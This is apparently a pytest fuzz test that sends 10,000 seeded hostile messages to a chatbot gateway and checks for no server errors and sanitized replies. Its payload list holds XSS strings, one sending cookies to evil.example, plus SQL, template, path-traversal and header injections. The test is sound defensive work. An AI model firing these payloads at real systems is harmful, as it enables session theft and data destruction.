"""Hostile input at the gateway: 10,000 generated messages, never a 5xx.

A seeded generator (reproducible: the seed is printed on failure) mixes
huge texts, random bytes, control and format characters, lone surrogates,
script tags, SQL, template syntax, intent payloads, forged sessions and
malformed JSON envelopes. The fake Rasa echoes what it receives, so every
reply also checks that what comes back is plain text.
"""

from __future__ import annotations

import json
import random
import unicodedata
from collections import Counter
from collections.abc import Callable
from typing import Any

import httpx
import pytest

from tests.gateway.fake_rasa import FakeRasa

SEED = 20261203
MESSAGES = 10_000
HOSTILE_SNIPPETS = [
    "<script>alert(document.cookie)</script>",
    '<img src=x onerror="fetch(`//evil.example/?c=`+document.cookie)">',
    "javascript:alert(1)",
    "'; DROP TABLE leads; --",
    "' OR '1'='1",
    "1; SELECT pg_sleep(10)--",
    "{{ config.__class__.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    '/inform{"email": "victim@example.com"}',
    "/restart",
    "\u202eevil\u202c",
    "\u200b\u200d\ufeff",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie: x=1",
    "\r\nX-Injected: yes",
    "A" * 999,
]
CONTROL = "".join(chr(c) for c in [*range(0, 32), 127, *range(0x80, 0xA0)])


def random_text(rng: random.Random) -> str:
    kind = rng.randrange(9)
    if kind == 0:
        return rng.choice(HOSTILE_SNIPPETS)
    if kind == 1:
        return "".join(rng.choice(CONTROL) for _ in range(rng.randrange(1, 40)))
    if kind == 2:
        return "".join(chr(rng.randrange(0x20, 0x2FFFF)) for _ in range(50))
    if kind == 3:
        return "x" * rng.choice([1000, 1001, 5000, 60_000])
    if kind == 4:
        return "".join(chr(rng.randrange(0xD800, 0xE000)) for _ in range(5))
    if kind == 5:
        parts = rng.sample(HOSTILE_SNIPPETS, 3)
        return rng.choice(CONTROL).join(parts)
    if kind == 6:
        return f"card {rng.randrange(10**15, 10**16)} and 4111-1111-1111-1111"
    if kind == 7:
        return "  \t\n  "
    return "".join(rng.choice("abc /{}<>\"'\\%$#") for _ in range(rng.randrange(80)))


def random_body(rng: random.Random, session: str, reply: str) -> dict[str, Any]:
    """Keyword arguments of one POST to /chat/message."""
    roll = rng.random()
    if roll < 0.70:
        return {"json": {"session": session, "text": random_text(rng)}}
    if roll < 0.75:
        raw = bytes(rng.randrange(256) for _ in range(rng.randrange(1, 300)))
        return {"content": raw, "headers": {"Content-Type": "application/json"}}
    if roll < 0.80:
        body = json.dumps({"session": session, "text": random_text(rng)})
        return {"content": body.encode(), "headers": {"Content-Type": "text/html"}}
    if roll < 0.85:
        forged = rng.choice([session[:-1], session + "A", "", random_text(rng), reply])
        return {"json": {"session": forged, "text": "hi"}}
    if roll < 0.90:
        token = rng.choice([reply, reply[::-1], random_text(rng), 42, None, [reply]])
        return {"json": {"session": session, "reply": token}}
    if roll < 0.95:
        value = rng.choice([None, 1, 1.5, True, [], {}, ["x"], {"a": "b"}])
        return {"json": {"session": session, "text": value, "language": value}}
    return {
        "json": {
            "session": session,
            "text": random_text(rng),
            "language": random_text(rng),
            "extra": [random_text(rng) for _ in range(3)],
        }
    }


def assert_plain_reply(body: dict[str, Any]) -> None:
    assert set(body) == {"you", "redacted", "messages"}
    assert isinstance(body["you"], str | None)
    for message in body["messages"]:
        assert set(message) == {"text", "buttons"}
        assert isinstance(message["text"], str)
        for ch in message["text"]:
            assert ch == "\n" or unicodedata.category(ch)[0] != "C", repr(ch)
        for button in message["buttons"]:
            assert set(button) == {"title", "reply"}
            assert isinstance(button["title"], str)


@pytest.mark.slow
async def test_ten_thousand_hostile_messages(
    make_client: Callable[..., httpx.AsyncClient], fake_rasa: FakeRasa
) -> None:
    client = make_client(
        chat_rate_per_address="1000000/minute", chat_rate_per_session="1000000/minute"
    )
    rng = random.Random(SEED)
    started = (await client.post("/chat/session", json={})).json()
    session = started["session"]
    reply = started["messages"][1]["buttons"][0]["reply"]
    statuses: Counter[int] = Counter()

    for number in range(MESSAGES):
        kwargs = random_body(rng, session, reply)
        if "json" in kwargs:
            # ASCII-escaped so that lone surrogates reach the server as-is.
            kwargs = {
                "content": json.dumps(kwargs["json"]).encode(),
                "headers": {"Content-Type": "application/json"},
            }
        response = await client.post("/chat/message", **kwargs)
        statuses[response.status_code] += 1
        context = f"seed={SEED} message={number} status={response.status_code}"
        assert response.status_code < 500, context
        assert response.headers["content-type"] == "application/json", context
        body = response.json()
        if response.status_code == 200:
            assert_plain_reply(body)
        else:
            assert set(body) == {"error", "message", "retry"}, context

    assert sum(statuses.values()) == MESSAGES
    assert statuses[200] > MESSAGES // 3
    for received in fake_rasa.received:
        assert "4111-1111-1111-1111" not in received["message"]
        assert not received["message"].startswith("/inform")
